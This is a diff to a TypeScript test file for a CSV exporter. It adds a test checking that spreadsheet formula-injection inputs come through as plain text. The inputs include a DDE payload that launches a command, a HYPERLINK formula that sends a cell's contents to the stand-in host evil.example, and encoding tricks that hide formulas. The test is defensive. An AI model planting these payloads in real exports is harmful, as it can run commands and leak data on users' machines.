@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { column, renderCsv, toTable } from '#core/publish/exports/csv.ts';
@@ -27,6 +28,31 @@ test.each([
 	expect(renderCsv(toTable(columns, [[text, 'x', '']]))).toBe(
 		`first,second,third\r\n"${text}",x,\r\n`,
 	);
+});
+
+test.each([
+	`=cmd|'/C calc'!A0`,
+	'=HYPERLINK("https://evil.example?"&A1,"click")',
+	'+1',
+	'-1',
+	'@SUM(1)',
+	'\t=1+1',
+	'\r=1+1',
+	'＝1+1',
+	'"=1+1"',
+	'",=1+1,"',
+	'a\r\n=1+1,b',
+	'a\n=1+1',
+	`'=1+1`,
+	'\u202E=1+1\u2066',
+	'😀, "quoted"; and more',
+	'x'.repeat(10_000),
+])('text that a spreadsheet would run comes through as text: %j', (text) => {
+	expect(parse(renderCsv(toTable(columns, [[text, 'x', '']])))[1]).toEqual([
+		written(text),
+		'x',
+		'',
+	]);
 });
 
 test('two readers find in any table what was written', () => {
